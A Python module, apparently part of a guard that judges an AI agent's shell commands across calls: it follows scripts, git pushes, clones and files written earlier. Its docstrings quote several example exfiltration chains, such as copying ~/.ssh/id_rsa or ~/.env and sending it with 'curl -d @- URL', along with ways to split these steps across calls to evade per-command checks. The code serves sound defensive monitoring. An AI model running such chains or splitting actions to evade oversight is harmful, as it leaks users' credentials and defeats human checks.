"""Judge a command as what it will run, across calls: the I/O half of adr/shell/runs.py.

`bash a.sh`, `./a.sh`, `npm test`, `make`, `pytest`, `pip install .`, `git commit`, a function from
an earlier call: the command line alone says nothing about the code. `CrossCall.findings(action)`
asks adr/shell/runs.py which files the command runs, reads them (bounded: regular files only, never
a FIFO, a device or /proc), looks them up in the daemon's memory of what each session wrote or
downloaded (adr/daemon/memory.py; absent in the hook's in-process fallback and `adr check`, which
read the files only), and hands their text to the pure engine as extra exec actions — a shell
script as itself, Python as `python3 -c '…'` and so on — following what those run in turn. Each
finding carries a note ("runs a.sh, written by Write at 14:03:22 (this session)"); a bound that
trips (size, files, depth) is itself a finding that asks, never a silent allow.
"""
from __future__ import annotations

import hashlib
import itertools
import os
import posixpath
import re
import shlex
import stat
import sys
import threading
import time
from collections import OrderedDict
from dataclasses import dataclass, replace
from typing import Any

from adr import lazyre
from adr.actions import Action, ActionKind, Evidence, Finding, RuleAction, Severity
from adr.daemon.cpuclock import decision_clock
from adr.engine.core import BUDGET_RULE, Budget, edited_text, lifecycle_scripts, parse_line
from adr.shell import runs as R
from adr.shell.mounts import shell_word
from adr.shell.netprogs import ARG_SENDERS, SOME_FORMS, STDIN_SENDERS, UPLOADERS
from adr.shell.decoders import decoded_by
from adr.shell.parse import (FILE_READERS, MAX_SOURCE, files_made_with_writer, files_read_back, files_sent, inputs_of,
                             read_back_words, statement_start)
from adr.shell.toolconfigs import env_readers
from adr.shell.interpreters import SCRIPT_EXT, with_argv_values, with_env_values, with_stdin_value

_SPECIAL = ("/proc/", "/sys/", "/dev/")
MAX_LINE_WRITES = 32  # writes of one line whose content is kept for what the line runs next
# Rules that ask because a value is known only at run time. On an agent's one-liner that hides the
# command; in a script (`$CC -o app`, `"$@"`, `$PY -m pip`) it is how scripts are written, so what a
# command runs from a file only records them. (A renamed rule is simply judged as usual: stricter.)
ORDINARY_IN_SCRIPTS = frozenset({"shell.dynamic-command"})
# ... and in files no agent wrote through adr (~/.profile's `eval "$(dircolors -b)"`, a project's own
# scripts) `eval` of a run-time value is ordinary too; in what an agent wrote it still asks.
ORDINARY_IN_USER_FILES = ORDINARY_IN_SCRIPTS | {"shell.eval-dynamic"}
_PYTEST_SKIP = frozenset({"node_modules", "build", "dist", "venv", "env", "__pycache__", "site-packages", "CVS",
                          "_darcs", "{arch}", "target"})
COLD_WALKS = 3
COLD_FACTOR = 4
WALK_FUNCTION_SOURCE = 64 * 1024  # of a line the walk reads function definitions in (the daemon's memory: 256 KiB)
_RUNNER = {"shell": "sh", "python": "python3", "node": "node", "perl": "perl", "ruby": "ruby", "php": "php",
           "lua": "lua", "r": "Rscript", "julia": "julia", "jar": "java -jar"}


@dataclass(frozen=True)
class Limits:
    """How far one decision follows what a command runs. Whatever a limit cuts off asks."""

    file_bytes: int = 256 * 1024  # of one file (the shell layer parses 256 KiB per layer)
    files: int = 32  # files read per decision
    depth: int = 4  # a script that runs a script that runs …
    judged: int = 64  # texts handed to the engine per decision
    total_bytes: int = 1024 * 1024  # read per decision
    walk_dirs: int = 2000  # directories searched for conftest.py, or for a program's source files
    cpu_ms: float = 150.0  # this thread's CPU time for the whole walk (checked between steps)
    # a compiled program's source (adr/daemon/sources.py): bytes read per decision, newest first; a file
    # changed within fresh_seconds (or written by an agent) left unread asks, an older one is recorded
    source_bytes: int = 256 * 1024
    fresh_seconds: float = 24 * 3600
    source_share: float = 0.6  # of the walk's CPU time that older files may take (the rest is left to the line)


@dataclass(frozen=True)
class FileRead:
    status: str  # ok | missing | too-large | binary | directory | not-regular | special | unreadable
    text: str = ""  # for ok / too-large (the first limit bytes)
    sha256: str = ""
    size: int = 0
    mode: int = 0


# direnv's PATH_add / path_add DIR, and a PATH export naming a folder of the project ($PWD/DIR, ./DIR)
_ENVRC_PATH = lazyre.compile(r"(?m)^\s*(?:PATH_add|path_add)\s+[\"']?(?:\$PWD/|\./)?([\w./-]+)"
                             r"|^\s*(?:export\s+)?PATH=[\"']?(?:\$PWD/|\$\{PWD\}/|\./)([\w./-]+):")
GLOB_RUNS = 8  # files a script operand's pattern is followed to (`sh /tmp/t/*.sh`)


def _glob_files(pattern: str) -> "Any":
    """Regular files a pattern names on disk (never under /proc, /sys or /dev), lazily."""
    import glob

    if pattern.startswith(("/proc/", "/sys/", "/dev/")):
        return iter(())
    return (p for p in glob.iglob(pattern) if os.path.isfile(p))


def read_file(path: str, limit: int) -> FileRead:
    """A script's text, bounded; never opens a FIFO, socket or device, never reads /proc, /sys or
    /dev (the daemon's /proc/self is not the agent's)."""
    try:
        real = os.path.realpath(path)
    except (OSError, ValueError):
        return FileRead("unreadable")
    if real.startswith(_SPECIAL) or path.startswith(_SPECIAL):
        return FileRead("special")
    try:
        st = os.stat(real)
    except FileNotFoundError:
        return FileRead("missing")
    except (OSError, ValueError):
        return FileRead("unreadable")
    if stat.S_ISDIR(st.st_mode):
        return FileRead("directory", mode=st.st_mode)  # running a directory fails; nothing to judge
    if not stat.S_ISREG(st.st_mode):
        return FileRead("not-regular", mode=st.st_mode)
    try:
        fd = os.open(real, os.O_RDONLY | os.O_NONBLOCK | os.O_NOCTTY | getattr(os, "O_CLOEXEC", 0))
    except OSError:
        return FileRead("unreadable", mode=st.st_mode)
    try:
        st = os.fstat(fd)
        if not stat.S_ISREG(st.st_mode):  # swapped between stat and open
            return FileRead("not-regular", mode=st.st_mode)
        data = os.read(fd, limit + 1)
    except OSError:
        return FileRead("unreadable", mode=st.st_mode)
    finally:
        os.close(fd)
    big = len(data) > limit or st.st_size > limit
    data = data[:limit]
    if b"\x00" in data[:8192]:
        return FileRead("binary", size=st.st_size, mode=st.st_mode)
    text = data.decode("utf-8", "replace")
    return FileRead("too-large" if big else "ok", text, hashlib.sha256(data).hexdigest(), st.st_size, st.st_mode)


class CrossCall:
    """One per Judge (per generation of rules): the findings of what exec actions run."""

    CACHE = 512  # judged texts whose findings are kept, by content hash

    def __init__(self, engine: Any, memory: Any = None, limits: Limits = Limits()) -> None:
        self.engine = engine
        self._memory = memory  # None: the daemon's memory when one is attached in this process
        self.limits = limits
        self._cache: "OrderedDict[tuple[str, str, str], tuple[Finding, ...]]" = OrderedDict()
        self._made: "OrderedDict[tuple[str, str, str], tuple[list[tuple[str, str]], bool]]" = OrderedDict()
        # compiled source files judged whole with nothing asked or denied, by what identifies the version
        # on disk (adr/daemon/sources.py): unchanged, they count as new no more
        self._judged_sources: "OrderedDict[tuple[Any, ...], None]" = OrderedDict()
        self._lock = threading.Lock()
        self.walks = 0  # walks started (the first COLD_WALKS get COLD_FACTOR × the CPU bound)

    @property
    def memory(self) -> Any:
        if self._memory is not None:
            return self._memory
        mem = sys.modules.get("adr.daemon.memory")  # never imported (the hook's fallback, `adr check`):
        return mem.attached() if mem is not None else None  # nothing attached one (it costs ~20 ms to import)

    def set_in_session(self, action: Action, findings: "tuple[Finding, ...]") -> "tuple[Finding, ...]":
        """Findings that a variable the line uses is unset, without those whose variables an earlier
        call of the session set (`T=./out` in one call, `rm -rf "$T"` in the next: a persistent shell
        holds T — the line is judged with it then, by `variables`)."""
        if self.memory is None or not any(f.rule_id == UNSET_ROOTED_RULE for f in findings):
            return findings
        known = self.memory.definitions(action.context.host, action.context.session)

        def stale(f: Finding) -> bool:
            names = {m.group(1) for e in f.evidence for m in _VAR_NAMES.finditer((e.subject or "")[:4096])}
            return f.rule_id == UNSET_ROOTED_RULE and bool(names) and names <= set(known)
        return tuple(f for f in findings if not stale(f))

    def findings(self, action: Action, budget: Any = None) -> tuple[Finding, ...]:
        """Extra findings for what `action` runs from files, functions and aliases (exec only).
        `budget` (adr.engine.core.Budget): the decision's, shared with the engine's evaluations."""
        if action.kind is ActionKind.FILE_EDIT and posixpath.basename(action.path) == "package.json":
            return self.edited_manifest(action, budget)
        if action.kind is ActionKind.FILE_WRITE and self.memory is not None:
            return self.armed_write(action, budget)
        if action.kind is not ActionKind.EXEC or not action.command:
            return ()
        walk = _Walk(self, action, budget)
        walk.line(action.command, action.context.cwd, 0, "")
        return tuple(walk.found.values())

    def armed_write(self, action: Action, budget: Any = None) -> tuple[Finding, ...]:
        """A whole file written where an earlier command will run it — one that ran before the file
        existed (`nohup sh -c 'sleep 60; sh later.sh' &`, then a Write of later.sh): judged as that run."""
        ctx = action.context
        path = R.resolve(action.path, ctx.cwd, ctx.home) if action.path else ""
        got = self.memory.armed(path) if path and self.memory is not None else None
        if got is None:
            return ()
        walk = _Walk(self, replace(action, kind=ActionKind.EXEC, command="", path="", content="", old_content=""),
                     budget)
        walk.armed(path, action.content, got)
        return tuple(walk.found.values())

    def edited_manifest(self, action: Action, budget: Any = None) -> tuple[Finding, ...]:
        """An Edit of a package.json sends a fragment; the file it leaves is the one on disk with the
        fragment in place. Each install-time script that edit adds or changes (a key renamed to
        `postinstall`, a value changed without its key in the fragment) is judged as what `npm install`
        will run, in the manifest's folder — as a whole-file write of it is (the engine reads the
        fragment alone when the file cannot be read)."""
        ctx = action.context
        path = action.path
        if path.startswith("~/") and ctx.home:
            path = ctx.home + path[1:]
        if not path.startswith("/"):
            if not ctx.cwd.startswith("/"):
                return ()
            path = posixpath.join(ctx.cwd, path)
        path = posixpath.normpath(path)
        got = read_file(path, self.limits.file_bytes)
        if got.status != "ok":
            return ()
        after = edited_text(got.text, action.old_content, action.content)
        if after is None:
            return ()
        before = dict(lifecycle_scripts(got.text))
        changed = [(n, s) for n, s in lifecycle_scripts(after) if before.get(n) != s]
        if not changed:
            return ()
        walk = _Walk(self, replace(action, kind=ActionKind.EXEC, command="", path="", content="", old_content=""),
                     budget)
        for name, script in changed[:16]:
            walk.judge(script, posixpath.dirname(path), 1, f"package.json {name} script (the file after this edit)")
        return tuple(walk.found.values())

    JUDGED_SOURCES = 65536

    def judged_source(self, stamp: "tuple[Any, ...]", record: bool = False) -> bool:
        """Was this version of a source file judged whole before, nothing asked or denied? (`record`: it was.)"""
        with self._lock:
            if record:
                self._judged_sources[stamp] = None
                self._judged_sources.move_to_end(stamp)
                while len(self._judged_sources) > self.JUDGED_SOURCES:
                    self._judged_sources.popitem(last=False)
                return True
            return stamp in self._judged_sources

    def make_recipes(self, content: str, run: R.Run) -> tuple[list[tuple[str, str]], bool]:
        """R.make_recipes, kept by content: the same Makefile is read on every `make`."""
        key = ("make", hashlib.sha256(content.encode("utf-8", "surrogatepass")).hexdigest(),
               repr((run.names, run.args, run.mode)))
        with self._lock:
            hit = self._made.get(key)
        if hit is None:
            hit = R.make_recipes(content, run.names, run.args, dry=run.mode == "dry")
            with self._lock:
                self._made[key] = hit
                while len(self._made) > 64:
                    self._made.popitem(last=False)
        return hit

    def evaluate(self, command: str, action: Action, cwd: str, budget: Any = None) -> tuple[Finding, ...]:
        key = (hashlib.sha256(command.encode("utf-8", "surrogatepass")).hexdigest(), cwd, action.context.home)
        with self._lock:
            hit = self._cache.get(key)
            if hit is not None:
                self._cache.move_to_end(key)
                return hit
        sub = replace(action, command=command, context=replace(action.context, cwd=cwd))
        got = tuple(self.engine.evaluate(sub, budget) if budget is not None else self.engine.evaluate(sub))
        if budget is not None and budget.exhausted:
            return got  # cut short by this decision's budget: not what the text always gives
        with self._lock:
            self._cache[key] = got
            while len(self._cache) > self.CACHE:
                self._cache.popitem(last=False)
        return got


class _Walk:
    """One decision's walk through what a command runs (bounded)."""

    def __init__(self, cc: CrossCall, action: Action, budget: Any = None) -> None:
        self.cc = cc
        self.budget = budget
        self.limits = cc.limits
        self.memory = cc.memory
        self.action = action
        ctx = action.context
        self.session = ctx.session
        self.home = ctx.home or os.path.expanduser("~")
        self.found: dict[str, Finding] = {}
        self.raised = 0  # findings that ask or deny, as added (sources.py: did judging this text raise any?)
        self.lenient = 0  # > 0 while judging what is read only while time lasts (judge(lenient=True))
        self.files = 0
        self.bytes = 0
        self.judged = 0
        self.seen: set[tuple[str, ...]] = set()
        # the first walks in a process also pay one-time costs (imports, rule indexes, regex sets
        # compiled on first use): the hook's in-process fallback and `adr check` are always first
        cold = cc.walks < COLD_WALKS
        cc.walks += 1
        started = decision_clock()
        span = self.limits.cpu_ms * (COLD_FACTOR if cold else 1) / 1000.0
        self.deadline = started + span
        self.soft_deadline = started + span * self.limits.source_share  # (older source files stop here)
        self.source_used = 0  # bytes of compiled source read (sources.py)
        # the walk's own parsing (the engine's evaluations spend the decision's budget)
        self.parse_budget = Budget(deadline=self.deadline, clock=decision_clock)
        self.defs: dict[str, tuple[R.Definition, str]] = {}
        self.expanding: list[str] = []  # definitions being expanded (not expanded inside themselves)
        self.vars: dict[str, tuple[str, str]] = {}  # variables earlier lines of the session left set
        self.computed: set[str] = set()  # … to a command's output: their value is shell text (`$(cat .env)`)
        # files the line itself writes with known content (`cat > x.go <<EOF … EOF && go run x.go`): what
        # runs them later on the line runs that content — the file is not on disk yet when adr judges
        self.line_writes: dict[str, str] = {}
        self.session_path = ""  # folders an earlier line put on PATH (`export PATH=/tmp/t:$PATH`)
        self.top: Any = None  # the line as parsed (what it makes is looked at only when a run needs it)
        self._line_made: "dict[str, tuple[str, str, str]] | None" = None
        if self.memory is not None:
            self.memory.settle()  # what the previous decisions left behind is recorded first
            for name, d in self.memory.definitions(ctx.host, ctx.session).items():
                if d.definition.kind in ("variable", "computed"):
                    self.vars[name] = (d.definition.body, f"{d.by} at {_clock(d.at)}")
                    if d.definition.kind == "computed":
                        self.computed.add(name)
                elif d.definition.kind == "path":
                    self.session_path = d.definition.body
                else:
                    self.defs[name] = (d.definition, f"{d.by} at {_clock(d.at)}")

    # ---- the walk -------------------------------------------------------------------------------------

    def line(self, text: str, cwd: str, depth: int, note: str) -> None:
        """Follow what the shell text `text` runs from files and definitions."""
        text = text[:MAX_SOURCE]  # as the shell layer: beyond it the engine already asks (too-large)
        parsed = parse_line(text, self.parse_budget)  # parsed once per line per decision
        if self.parse_budget.exhausted and not self.parse_budget.graced and not self.lenient:
            self.parse_budget.grace()  # once: what was parsed is still followed, the rest asks
            self.bound(f"too much shell to follow ({self.parse_budget.exhausted})", text[:200], note)
        local, _ = R.definitions(parsed, WALK_FUNCTION_SOURCE, nested=True)
        if len(text) > WALK_FUNCTION_SOURCE and R.may_define(text[WALK_FUNCTION_SOURCE:]):
            self.bound(f"functions defined past the first {WALK_FUNCTION_SOURCE // 1024} KiB of a line were not "
                       "looked at", text[:200], note)
        for d in local:
            if d.kind not in ("variable", "computed", "path"):
                self.defs.setdefault(d.name, (d, "defined on the same line"))
        if depth == 0 and self.top is None:
            self.top = (parsed, cwd)
        if depth == 0 and parsed.writes:
            self.written_on_line(parsed, cwd)
            if self.memory is not None:
                for path, written in list(self.line_writes.items())[:16]:
                    got = self.memory.armed(path)
                    if got is not None:
                        self.armed(path, written, got)  # `echo '…' > later.sh` where a started job runs it
        if self.vars:
            self.variables(parsed, text, cwd, depth, note)
        if depth == 0:
            for n, v in itertools.chain(parsed.assigned[:64], parsed.computed[:64]):
                if env_readers(n):  # `export LEFTHOOK_CONFIG=x.yml; bash ci.sh`: the scripts it runs inherit it
                    self.vars[n] = (v, "an export earlier on the line")
                    if (n, v) in parsed.computed:
                        self.computed.add(n)
        if "push" in text and any(n.startswith(R.GIT_REMOTE) for n in self.defs):
            self.git_remotes(parsed, text, cwd, depth, note)
        if self.memory is not None:
            self.sends(parsed, cwd, depth, note)
            self.containers(parsed, cwd, depth, note)
        self.reads_sent(parsed, text, cwd, depth, note)
        if self.memory is not None and depth == 0:
            self.listed_names(parsed, text, cwd, depth, note)
        self.curl_configs(parsed, cwd, depth, note)
        if "compose" in text or "stack" in text:
            self.compose_files(parsed, cwd, depth, note)
        if "kube" in text:
            self.kube_play(parsed, cwd, depth, note)
        if "git" in text and ("commit" in text or "push" in text):
            self.published(parsed, cwd, depth, note)
        runs = R.runs_of(parsed, cwd, self.home, frozenset(self.defs))
        if self.memory is not None or self.line_writes:
            # a program an agent planted in the project's bin folders, run by its bare name
            runs += tuple(r for r in R.local_bin_runs(parsed, cwd, self.home, self.envrc_path(cwd) or self.session_path)
                          if r.paths[0] in self.line_writes or self.memory is not None
                          and self.memory.lookup(r.paths[0]) is not None)
        if not runs:
            return
        if self.memory is not None:
            self.cloned(runs, cwd, depth, note)
        if depth >= self.limits.depth:
            self.bound(f"runs nested deeper than {self.limits.depth} levels were not followed", runs[0].how, note)
            return
        calls = [r for r in runs if r.kind == R.FUNCTION]
        if calls:
            self.functions(calls, text, cwd, depth + 1, note)
        for run in runs:
            if run.kind != R.FUNCTION:
                if run.kind in _PROGRAM_FILE_KINDS and self.memory is not None:
                    self.downloaded_program(run, depth + 1, note)
                getattr(self, "run_" + run.kind)(run, text, depth + 1, note)

    def judge(self, command: str, cwd: str, depth: int, note: str, follow: bool = True, agent: bool = True,
              judged_before: "frozenset[tuple[str, tuple[str, ...]]]" = frozenset(), lenient: bool = False) -> None:
        """Evaluate `command` (text that runs) and follow what it runs in turn. `agent`: an agent wrote
        it (remembered), so only ORDINARY_IN_SCRIPTS is relaxed; the user's and the project's own
        files (not written through adr) also relax ORDINARY_IN_USER_FILES. `judged_before`: findings
        (rule, subjects) an earlier call's part of `command` already had: not reported again.
        `lenient`: read only while time lasts (a program's older source, sources.py): running out of
        time or budget there is no finding — what was judged stands."""
        if not command.strip():
            return
        key = ("judge", command, cwd)
        if key in self.seen:
            return
        if lenient and (self.lenient or self.judged >= self.limits.judged):
            return
        self.seen.add(key)
        if self.judged >= self.limits.judged:
            self.bound(f"more than {self.limits.judged} scripts to judge", command[:200], note)
            return
        self.lenient += lenient
        try:
            if self.out_of_time(command, note):
                return
            self.judged += 1
            ordinary = ORDINARY_IN_SCRIPTS if agent else ORDINARY_IN_USER_FILES
            for f in self.cc.evaluate(command, self.action, cwd, self.budget):
                if self.lenient and f.rule_id == BUDGET_RULE:
                    continue
                if judged_before and _finding_key(f) in judged_before:
                    continue
                if f.rule_id in ordinary and f.action is not RuleAction.LOG:
                    f = replace(f, action=RuleAction.LOG)
                    self.add(_annotate(f, _note(note, "a run-time value is ordinary in a script: recorded only")))
                    continue
                self.add(_annotate(f, note))
            if follow and not self.out_of_time(command, note):
                self.line(command, cwd, depth, note)
        finally:
            self.lenient -= lenient

    def written_on_line(self, parsed: Any, cwd: str) -> None:
        """Record what the line writes with literal content, by path — resolved from the working
        directory and from each folder the line changes to (a write's own folder is not kept)."""
        dirs = [cwd]
        for c in parsed.commands[:64]:
            if c.program in ("cd", "pushd") and c.argv and not c.via and len(dirs) < 4:
                dirs.append(R.cd_target(c.args, dirs[-1], self.home))
        for w in parsed.writes[:MAX_LINE_WRITES]:
            if w.content is None or w.kind != "write":
                continue
            for d in dict.fromkeys(dirs):
                path = R.resolve(w.path, d, self.home) if d else ""
                if path and not path.startswith(_SPECIAL):
                    before = self.line_writes.get(path, "") if w.append else ""
                    self.line_writes[path] = (before + w.content)[:self.limits.file_bytes]

    def line_sources(self, folder: str, language: str) -> list[str]:
        """Files of `language` ("": any) the line writes right in `folder` (run-parts' folder, `go run .`)."""
        return sorted(p for p in self.line_writes if posixpath.dirname(p) == folder
                      and (not language or R.FOLDER_EXT.get(posixpath.splitext(p)[1].lower()) == language))

    def sends(self, parsed: Any, cwd: str, depth: int, note: str) -> None:
        """A file an earlier call made (`cp ~/.env /tmp/n`, `env > /tmp/e`, `tar czf /tmp/k.tgz ~/.ssh`)
        and this line sends away is judged as the pipe the two calls amount to: `cat ~/.env | curl -T -
        URL`, in the directory the earlier call ran in. (On one line, adr/shell/parse.py does the same.)"""
        here = cwd
        for c in parsed.commands[:64]:
            if not c.argv:
                continue
            if c.program in ("cd", "pushd") and not c.via:
                here = R.cd_target(c.args, here, self.home)  # `cd /tmp && curl -T f …`: f is /tmp/f
                continue
            for f, sender in files_sent(c.program, c.args, c.redirects, c.stdin_text):
                for d in dict.fromkeys((here, cwd)):
                    path = R.resolve(f, d, self.home)
                    if path:
                        self.sent_from(path, f, sender, cwd, depth, note, 0)
                    if path and self.memory is not None and any(ch in f for ch in "*?["):
                        # a glob sent (`for f in /tmp/p_*; do curl -d @$f …`): the remembered files it names
                        for w in self.memory.matching(path, 8):
                            self.sent_from(w.path, f"{f} ({w.path})", sender, cwd, depth, note, 0)
                    if path and self.memory is not None and self.recall(path) is None:
                        # a folder sent (`aws s3 cp D s3://b --recursive`, `kaggle datasets create -p D`):
                        # what an earlier call put in it goes along
                        for w in self.memory.under(path, 8):
                            self.sent_from(w.path, f"{f} (holding {w.path})", sender, cwd, depth, note, 0)
            for f, reader in files_read_back(c.program, c.args, c.redirects, c.wrappers):
                # `pip freeze > /tmp/l` in an earlier call, `pip uninstall -y -r /tmp/l` now
                path = R.resolve(f, here, self.home)
                if path:
                    self.sent_from(path, f, reader, cwd, depth, note, 0, "reads back")
            if any("$(" in a or "`" in a for a in c.args[:64]):
                # `git ls-files > /tmp/l` in an earlier call, `rm -f $(cat /tmp/l)` now: what it printed
                shown: list[str] = []

                def producer_of(f: str) -> "str | None":
                    w = self.recall(R.resolve(f, here, self.home) or f)
                    if w is None or not w.producer:
                        return None
                    shown.append(f"{f} by `{w.producer[:120]}`")
                    return w.producer

                words = read_back_words(c.args[:64], producer_of)
                if shown and words != list(c.args[:64]):
                    self.judge(" ".join([shell_word(c.program)] + [a if "$(" in a else shell_word(a) for a in words]), here, depth + 1,
                               _note(note, "reads back " + ", ".join(shown[:4])), follow=False)
            if c.program == "git" and "add" in c.args[:3]:
                self.staged_copies(c, here, depth, note)

    def reads_sent(self, parsed: Any, text: str, cwd: str, depth: int, note: str) -> None:
        """A line that sends over the network and reads a file an earlier call made from another one
        (`cp ~/.ssh/id_rsa notes.txt` or `ln -s ~/.aws/credentials d.json`, then `cat notes.txt | curl
        -d @- URL`, `curl -d "$(cat notes.txt)" URL`, code that opens it and posts it): judged again
        with the file named by where it came from — `cat ~/.ssh/id_rsa | curl -d @- URL` — as the
        sender's own file operands are (sends). A symlink on disk is named by what it points at."""
        commands = [c for c in parsed.commands[:64] if c.argv]
        if not any(c.program in _LINE_SENDERS or any(_NET_CODE.search(a[:65536]) for a in c.args[:16] if " " in a)
                   for c in commands):
            return
        here = cwd
        swaps: dict[str, str] = {}
        for c in commands:
            if c.program in ("cd", "pushd") and not c.via:
                here = R.cd_target(c.args, here, self.home)
                continue
            names = inputs_of(c)
            if c.program in _OPERAND_READERS:  # (a reader's operands are files, however bare: `cat k1`, `cat p_*`)
                names += [a for a in c.args[:64] if a and not a.startswith("-") and a not in names and " " not in a]
            for f in names:
                if f in swaps or "$" in f or f.startswith("-") or len(swaps) >= 16:
                    continue
                for d in dict.fromkeys((here, cwd)):
                    path = R.resolve(f, d, self.home)
                    if not path or R.pseudo_file(path):
                        continue
                    if any(ch in f for ch in "*?[") and self.memory is not None:
                        # a glob read (`cat p_* | curl -d @- …`): the remembered files it names, each by its source
                        got = [s for w in self.memory.matching(path, 8) if (s := _made_from(w))]
                        source = " ".join(dict.fromkeys(got)) or None
                    else:
                        source = _made_from(self.recall(path))
                    if source is None:
                        source = _link_target(path)
                    if source is None and self.memory is not None and self.recall(path) is None:
                        # a folder read whole (`tar czf b.tgz . && curl -T b.tgz …`): it holds the copies an
                        # earlier call made in it, each named by its source beside it
                        got = [s for w in self.memory.under(path, 8) if (s := _made_from(w))]
                        source = " ".join([f] + list(dict.fromkeys(got))) if got else None
                    if source:
                        swaps[f] = source
                        break
        if not swaps:
            return
        said = _note(note, "reads " + ", ".join(f"{f} (made from `{s[:120]}`)" for f, s in swaps.items()))
        swapped = re.sub("|".join(rf"(?<![\w./~-]){re.escape(f)}(?![\w./-])" for f in sorted(swaps, key=len, reverse=True)),
                         lambda m: swaps[m.group(0)], text[:MAX_SOURCE])
        if swapped != text:
            self.judge(swapped, cwd, depth + 1, said, follow=False)

    def listed_names(self, parsed: Any, text: str, cwd: str, depth: int, note: str) -> None:
        """A file an earlier call printed names into (`cd ~/.ssh && ls > /tmp/l`, `find ~/.aws -type f >
        /tmp/l`, `echo ~/.ssh/id_rsa > /tmp/l`, a Write of paths) that this line reads names from
        (`xargs cat < /tmp/l`, `xargs -a /tmp/l cat`, `while read f; do cat "$f"; done < /tmp/l`,
        `cat $(cat /tmp/l)`, `cat /tmp/l | xargs cat`, `tar -T /tmp/l`): judged as the one line the calls
        amount to, the file read as `<(cd DIR && PRODUCER)` in the directory the earlier call ran in —
        less what the earlier call's own part finds alone (it was judged then)."""
        here = cwd
        swaps: dict[str, tuple[str, str, str]] = {}
        commands = [c for c in parsed.commands[:64] if c.argv]
        for i, c in enumerate(commands):
            if c.program in ("cd", "pushd") and not c.via:
                here = R.cd_target(c.args, here, self.home)
                continue
            nxt = commands[i + 1] if i + 1 < len(commands) else None
            if not _reads_names(c, nxt):
                continue
            for f in inputs_of(c):
                if f in swaps or "$" in f or "`" in f or f.startswith("-") or len(swaps) >= 4:
                    continue
                for d in dict.fromkeys((here, cwd)):
                    path = R.resolve(f, d, self.home)
                    if not path or R.pseudo_file(path):
                        continue
                    made = _names_made(self.recall(path), cwd, self.session)
                    if made is not None:
                        swaps[f] = made
                        break
        if not swaps:
            return
        before: set[tuple[str, tuple[str, ...]]] = set()
        for _, alone, _ in swaps.values():
            before.update(_finding_key(f) for f in self.cc.evaluate(alone, self.action, cwd, self.budget))
        said = _note(note, "reads names from " + ", ".join(f"{f} ({how})" for f, (_, _, how) in swaps.items()))
        swapped = re.sub("|".join(rf"(?<![\w./~-]){re.escape(f)}(?![\w./-])" for f in sorted(swaps, key=len, reverse=True)),
                         lambda m: swaps[m.group(0)][0], text[:MAX_SOURCE])
        if swapped != text:
            self.judge(swapped, cwd, depth + 1, said, follow=False, judged_before=frozenset(before))

    def published(self, parsed: Any, cwd: str, depth: int, note: str) -> None:
        """`git commit` / `git push` of a secret an earlier call staged — the human allowed the `git add`,
        it was staged under another name, or by a command adr could not read: the files the index adds
        against HEAD (a commit) and the commits no remote holds yet (a push) are judged as `git add` of
        them, and a file an earlier call copied from a secret as `git add` of that secret."""
        from adr.daemon import gitstate as G
        here = cwd
        asks: dict[tuple[str, str], list[str]] = {}
        for c in parsed.commands[:64]:
            if c.program in ("cd", "pushd") and not c.via:
                here = R.cd_target(c.args, here, self.home)
                continue
            if c.program != "git" or not c.args:
                continue
            where, sub, rest = G.git_subcommand(c.args, here)
            if sub == "commit" and not {"--dry-run", "-h"} & set(rest):
                asks.setdefault((where, "commit"), [])
            elif sub == "push" and not {"--dry-run", "-n", "-d", "--delete", "-h"} & set(rest):
                asks.setdefault((where, "push"), []).extend(G.push_revisions(rest))
        for (where, kind), revs in list(asks.items())[:4]:
            top = G.work_tree(where)
            if not top or ("published", top, kind) in self.seen:
                continue
            self.seen.add(("published", top, kind))
            try:
                names = G.staged_names(top) if kind == "commit" else G.unpushed_names(top, revs)
            except G.GitTimeout as e:
                self.bound(f"which files the {kind} publishes is not known: {e}", f"git {kind}", note)
                continue
            if not names:
                continue
            what = "the index holds (staged against HEAD)" if kind == "commit" else \
                "the commits not on any remote add or change"
            paths = [posixpath.join(top, n) for n in names]
            self.judge("git add -- " + " ".join(_arg_word(p) for p in paths), top, depth + 1,
                       _note(note, f"`git {kind}` publishes what {what}"), follow=False)
            for p in paths:  # a copy of a secret staged under another name
                w = self.recall(p)
                if w is not None and w.producer.startswith("cat ") and "|" not in w.producer:
                    self.judge("git add " + w.producer[4:], w.producer_cwd or top, depth + 1,
                               _note(note, f"`git {kind}` publishes {p}, {w.origin(self.session)} by "
                                           f"`{w.producer[:120]}`"), follow=False)

    def cloned(self, runs: list, cwd: str, depth: int, note: str) -> None:
        """A repository an earlier call cloned (`git clone URL d`), and this line runs its code (`cd d &&
        ./install.sh`, `bash d/setup.sh`, `make -C d install`, `pip install ./d`): judged as the one-liner
        `git clone URL d && cd … && RUN` — its installer asks as it would on one line."""
        if not self.memory.has_clones():
            return
        for run in runs[:16]:
            if run.kind == R.FUNCTION:
                continue
            where = run.cwd or cwd
            cands = list(run.paths[:4]) + [where]
            for word in run.how.split()[1:16]:
                if not word.startswith("-") and "$" not in word:
                    cands.append(R.resolve(word, where, self.home))
            hit = None
            for p in cands:
                hit = self.memory.cloned(p) if p else None
                if hit is not None:
                    break
            if hit is None or ("cloned", hit.path, run.how, where) in self.seen:
                continue
            self.seen.add(("cloned", hit.path, run.how, where))
            line = (f"git clone {_arg_word(hit.url)} {_arg_word(hit.path)} && cd {_arg_word(where)} && "
                    f"{run.how}")
            self.judge(line, where, depth + 1,
                       _note(note, f"runs code of {hit.path} ({hit.origin(self.session)}) via `{run.how}`"),
                       follow=False)

    def staged_copies(self, c: Any, here: str, depth: int, note: str) -> None:
        """`git add notes.txt` where an earlier call made notes.txt a copy of `.env`: judged as `git add`
        of what it was copied from (a secret staged under another name is pushed all the same)."""
        args = list(c.args)
        specs = [f for f in args[args.index("add") + 1:][:32] if not f.startswith("-")]
        if any(a in ("-A", "--all", "-u", "--update") or a.startswith("-") and not a.startswith("--")
               and ("A" in a or "u" in a) for a in args[args.index("add") + 1:][:32]) or ":/" in specs:
            specs.append(".")  # the whole worktree (from here: adr does not look for the repository's top)
        for f in specs:
            path = R.resolve(f.removeprefix(":/") or ".", here, self.home) or ""
            w = self.recall(path)
            # a folder staged (`git add .`, `git add docs`): the copies an earlier call made in it go along
            found = [w] if w is not None else self.memory.under(path, 16) if self.memory is not None and path else []
            for w in found:
                # (a copy, or what a pipeline made from one: `cat KEY | base64 > docs/n.md` holds KEY all the same)
                first = w.producer.split(" | ", 1)[0]
                if not first.startswith("cat ") or "|" in first or "$(" in first or "`" in first:
                    continue
                self.judge("git add " + first[4:], w.producer_cwd or here, depth + 1,
                           _note(note, f"stages {w.path if w.path != path else f}, {w.origin(self.session)} by "
                                       f"`{w.producer[:120]}`"), follow=False)

